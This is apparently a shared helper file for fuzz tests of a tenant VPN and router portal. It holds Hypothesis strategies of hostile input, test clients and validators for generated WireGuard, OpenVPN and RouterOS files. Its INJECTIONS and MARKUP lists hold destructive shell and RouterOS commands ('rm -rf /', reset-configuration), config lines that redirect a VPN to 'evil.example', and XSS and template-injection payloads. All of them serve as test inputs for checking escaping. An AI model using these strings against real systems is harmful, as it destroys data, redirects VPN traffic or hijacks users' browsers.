"""What the fuzz tests share: the Hypothesis settings and seed, the strategies of hostile input, signed-in
clients, and strict checks of every file the portal renders."""

from __future__ import annotations

import functools
import os
import random
import re
import unicodedata
from collections.abc import Callable
from urllib.parse import urlsplit

from hypothesis import HealthCheck, Phase, seed, settings
from hypothesis import strategies as st
from markupsafe import escape
from sqlalchemy import func, select

from portal.extensions import db
from portal.openvpn.render import BLOCKS
from tests.api.conftest import Api, make_token
from tests.conftest import create_tenant_admin, csrf_token, login
from tests.routeros.rsc_tokenizer import validate

# --- runs -------------------------------------------------------------------------------------------------

SEED = int(os.environ.get("PORTAL_FUZZ_SEED") or (0 if os.environ.get("CI") else random.getrandbits(32)))


PHASES = [Phase.explicit, Phase.reuse, Phase.generate, Phase.target, Phase.shrink]


def fuzz(examples: int) -> Callable:
    """Run a property `examples` times from SEED, with no deadline (a request may hit a cold cache), no example
    database (the seed is what repeats a run) and no explain phase (minutes of re-running requests to list lines
    of code); a failure says which seed found it."""

    def decorate(test: Callable) -> Callable:
        configured = seed(SEED)(settings(max_examples=examples, deadline=None, database=None, print_blob=True,
                                         phases=PHASES,
                                         suppress_health_check=[HealthCheck.function_scoped_fixture,
                                                                HealthCheck.too_slow])(test))

        @functools.wraps(configured)
        def run(*args, **kwargs):
            try:
                return configured(*args, **kwargs)
            except BaseException as error:
                error.add_note(f"fuzz seed {SEED}: repeat this run with PORTAL_FUZZ_SEED={SEED}")
                raise

        return run

    return decorate


# --- hostile input ----------------------------------------------------------------------------------------

# Characters that mean something to RouterOS, a shell, an INI file, an OpenVPN profile, HTML or a template.
SPECIAL = list(" \"'$[]{}();:\\?#`|&<>*~=,/\n\r\t\x00\x07\x1b\x7f") + ["\u202e", "\u200f", "\ufeff", "\u2028",
                                                                      "\u0085", "\xa0"]
INJECTIONS = [
    '"; /system reset-configuration; :put "', "$(reboot)", "`id`", "a; rm -rf /", "[/system reboot]",
    "\n/system reboot\n", "x\\\n/file remove [find]", "\\$ok", "x\\", ":execute {/tool fetch url=http://e}",
    "\nremote evil.example 1194\n", "</key>\n<connection>", "\n[Peer]\nEndpoint = evil:1",
    "<script>alert(1)</script>", '"><img src=x onerror=alert(1)>', "{{7*7}}", "{% raw %}", "%s%n",
]
MARKUP = ["<script>alert(1)</script>", '"><img src=x onerror=alert(1)>', "'><svg onload=alert(1)>",
          "<a href=javascript:alert(1)>x</a>"]


def hostile_text(max_size: int = 80) -> st.SearchStrategy[str]:
    """Any text: all of Unicode (but lone surrogates, which no browser sends), the characters that mean something
    somewhere, and known injections spliced in."""
    anything = st.text(max_size=max_size)
    special = st.text(st.sampled_from(SPECIAL) | st.characters(codec="utf-8"), max_size=max_size)
    spliced = st.builds(lambda before, payload, after: before + payload + after,
                        st.text(max_size=8), st.sampled_from(INJECTIONS), st.text(max_size=8))
    return st.one_of(anything, special, spliced)


def plausible_names(letters: st.SearchStrategy[str], max_size: int = 64) -> st.SearchStrategy[str]:
    """Names a rule might accept: a letter or digit, then more of them and some punctuation, now and then with a
    character that should not be there; so both outcomes, accepted and refused, are exercised."""
    rest = st.text(letters | st.sampled_from(list(" ._-") + SPECIAL[:12]), max_size=max_size - 1)
    return st.builds(lambda first, tail: first + tail, letters, rest)


def names() -> st.SearchStrategy[str]:
    """ASCII names, names in any script (a rule may allow Unicode letters), and anything at all."""
    ascii_letters = st.characters(min_codepoint=0x30, max_codepoint=0x7A, categories=["L", "N"])
    return st.one_of(plausible_names(ascii_letters), plausible_names(st.characters(categories=["L", "N"])),
                     hostile_text())


def notes(max_size: int = 600) -> st.SearchStrategy[str]:
    """What people type into a note (any printable text, line breaks, markup), and anything at all."""
    typed = st.text(st.characters(exclude_categories=["Cc", "Cs"]), max_size=20) | st.sampled_from(["\n", "\t",
                                                                                                   *MARKUP])
    return st.one_of(st.lists(typed, max_size=max_size // 20).map("".join), hostile_text(max_size))


def same_name(stored: str, given: str) -> bool:
    """Whether the portal kept the given name: trimmed, and perhaps in a Unicode normal form."""
    trimmed = given.strip()
    return stored in {trimmed, *(unicodedata.normalize(form, trimmed) for form in ("NFC", "NFKC"))}


# --- signed-in clients ------------------------------------------------------------------------------------

class Browser:
    """A tenant admin's signed-in test client that posts forms with a CSRF token fetched once."""

    def __init__(self, app, tenant_id: int, email: str, token_page: str = "/routers"):
        self.app, self.tenant_id, self.client = app, tenant_id, app.test_client()
        response = login(self.client, email)
        assert response.status_code == 302, response.get_data(as_text=True)
        self.token = csrf_token(self.client, token_page)

    @classmethod
    def of_new_tenant(cls, app, token_page: str = "/routers") -> Browser:
        """A fresh tenant's admin (each property gets a subnet and names of its own), signed in."""
        tenant_id, email = create_tenant_admin(app)
        return cls(app, tenant_id, email, token_page)

    def get(self, path: str, **kwargs):
        return self.client.get(path, **kwargs)

    def post(self, path: str, data: dict, **kwargs):
        return self.client.post(path, data={**data, "csrf_token": self.token}, **kwargs)


def api_of_new_tenant(app, monkeypatch) -> Api:
    """A fresh tenant's write token, without the rate limit (a property sends hundreds of requests)."""
    monkeypatch.setitem(app.config, "PORTAL_API_RATE_LIMIT", 0)
    tenant_id, _ = create_tenant_admin(app)
    return Api(app, tenant_id, make_token(app, tenant_id, "write"))


def count(app, model, tenant_id: int) -> int:
    with app.app_context():
        return db.session.scalar(select(func.count()).select_from(model).where(model.tenant_id == tenant_id))


def path_of(url: str) -> str:
    parts = urlsplit(url)
    return parts.path + (f"?{parts.query}" if parts.query else "")


# --- answers and pages ------------------------------------------------------------------------------------

def assert_not_server_error(response) -> None:
    assert response.status_code < 500, f"{response.status_code}: {response.get_data(as_text=True)[:2000]}"


def assert_listed(response, *values: str) -> None:
    """A list page answers any search, sort or page it is given; a NUL in one is refused for the whole request."""
    assert_not_server_error(response)
    assert response.status_code == (400 if any("\x00" in value for value in values) else 200)


def assert_refused_form(response, *fields: str) -> None:
    """A 4xx with the error shown beside one of `fields` (or above the form)."""
    page = response.get_data(as_text=True)
    assert 400 <= response.status_code < 500, response.status_code
    ids = "|".join(re.escape(field) for field in fields)
    assert re.search(rf'id="(?:{ids})-error"|class="form-error"', page), page[:2000]


def assert_refused_json(response) -> None:
    """A 4xx with the API's error envelope: a code and a message."""
    assert 400 <= response.status_code < 500, response.status_code
    error = response.get_json()["error"]
    assert error["code"] and error["message"]


def assert_shown_escaped(page: str, value: str) -> None:
    """`value` appears in the page as text, never as markup."""
    assert str(escape(value)) in page, f"{value!r} is not shown (escaped) in the page"
    if escape(value) != value and re.search(r"[<>]", value):
        assert value not in page, f"{value!r} appears unescaped in the page"


# --- rendered files ---------------------------------------------------------------------------------------

SAFE_FILENAME = re.compile(r'attachment; filename="([A-Za-z0-9][A-Za-z0-9._-]{0,79})"')


def assert_download(response, extension: str) -> str:
    """A 200 whose Content-Disposition names a plain ASCII file `*.extension`; its text."""
    assert response.status_code == 200, response.status_code
    disposition = response.headers["Content-Disposition"]
    match = SAFE_FILENAME.fullmatch(disposition)
    assert match and match.group(1).endswith(f".{extension}"), disposition
    return response.get_data(as_text=True)


def assert_rsc_safe(text: str) -> None:
    validate(text)


_KEY = r"[A-Za-z0-9+/]{43}="
CONF_SECTIONS = {
    "Interface": {"Address": r"(?:\d{1,3}\.){3}\d{1,3}/32", "PrivateKey": _KEY, "MTU": r"\d{1,5}"},
    "Peer": {"PublicKey": _KEY, "PresharedKey": _KEY, "Endpoint": r"[A-Za-z0-9.-]+:\d{1,5}|\[[0-9a-fA-F:]+\]:\d{1,5}",
             "AllowedIPs": r"(?:\d{1,3}\.){3}\d{1,3}/\d{1,2}", "PersistentKeepalive": r"\d{1,5}"},
}


def assert_conf_safe(text: str) -> None:
    """Exactly the wg-quick sections and keys the portal writes, each once, with plain values; comments plain."""
    assert text.isascii(), "non-ASCII in a wg-quick file"
    seen: dict[str, dict[str, str]] = {}
    section = None
    for line in text.rstrip("\n").split("\n"):
        assert line.isprintable(), f"control character in {line!r}"
        if not line or line.startswith("#"):
            continue
        if header := re.fullmatch(r"\[(\w+)\]", line):
            section = header.group(1)
            assert section in CONF_SECTIONS and section not in seen, f"unexpected section {line!r}"
            seen[section] = {}
            continue
        key, equals, value = line.partition(" = ")
        assert section is not None and equals and key in CONF_SECTIONS[section], f"unexpected line {line!r}"
        assert key not in seen[section] and re.fullmatch(CONF_SECTIONS[section][key], value), line
        seen[section][key] = value
    assert {name: set(keys) for name, keys in seen.items()} == {name: set(keys) for name, keys in
                                                                CONF_SECTIONS.items()}


OVPN_DIRECTIVES = re.compile(r"client|dev tun|proto (?:udp|tcp)|remote [A-Za-z0-9.:-]+ \d{1,5}|resolv-retry infinite"
                             r"|nobind|persist-key|persist-tun|remote-cert-tls server|verify-x509-name server name"
                             r"|verb 3")


def assert_ovpn_safe(text: str) -> None:
    """Each line one of the portal's directives, then the four credential blocks in order, nothing else."""
    lines = text.rstrip("\n").split("\n")
    first_block = lines.index(f"<{BLOCKS[0]}>")
    for line in lines[:first_block]:
        assert OVPN_DIRECTIVES.fullmatch(line), f"unexpected directive {line!r}"
    blocks, at = [], first_block
    while at < len(lines):
        opening = re.fullmatch(r"<([a-z-]+)>", lines[at])
        assert opening, f"expected a block, found {lines[at]!r}"
        closing = lines.index(f"</{opening.group(1)}>", at)
        body = lines[at + 1:closing]
        assert body and all(line.isascii() and line.isprintable() and not line.startswith("<") for line in body)
        blocks.append(opening.group(1))
        at = closing + 1
    assert tuple(blocks) == BLOCKS
